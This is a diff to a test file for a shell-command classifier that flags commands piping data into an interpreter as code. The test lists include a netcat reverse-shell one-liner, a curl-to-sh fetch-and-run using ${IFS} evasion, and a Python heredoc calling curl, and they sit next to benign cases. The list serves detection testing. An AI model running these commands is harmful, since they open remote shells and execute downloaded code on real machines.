@@ -34,6 +34,9 @@ test.each([
   'curl${IFS}https://x.example|sh',
   'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1 >/tmp/f',
   'cat code | node -',
+  'python3 - <<EOF\nimport os; os.system("curl https://x.example -o y")\nEOF',
+  'bash <<< "$RUN"',
+  'sh -s < /tmp/run',
 ])('what another program prints is run as code: %s', (script) =>
   expect(severe(['sh', '-c', script])).toContain('piped-code'),
 );
@@ -60,6 +63,7 @@ test.each<[string[], string]>([
 test.each([
   'source .venv/bin/activate && python decode_base64.py',
   'cat data.json | node /opt/s.js',
+  'node /opt/s.js < data.json',
   'echo hello | python3 -m json.tool',
   'git pull && node /opt/s.js',
   'export PORT=3000; exec node /opt/s.js 2>&1',
